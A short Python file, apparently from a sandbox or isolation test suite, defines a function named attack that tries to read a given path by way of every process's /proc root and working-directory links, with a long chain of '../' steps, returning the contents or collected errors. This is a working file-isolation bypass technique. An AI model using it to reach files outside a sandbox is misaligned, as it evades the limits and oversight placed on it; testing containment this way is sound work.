"""Reach a file through other processes' roots, working directories and open files."""

import os


def attack(path):
    errors = []
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    for pid in ["self", *pids]:
        for way in (f"/proc/{pid}/root{path}", f"/proc/{pid}/cwd/{'../' * 20}{path}"):
            try:
                with open(way) as file:
                    return file.read()
            except OSError as error:
                errors.append(str(error))
    return errors[:10]
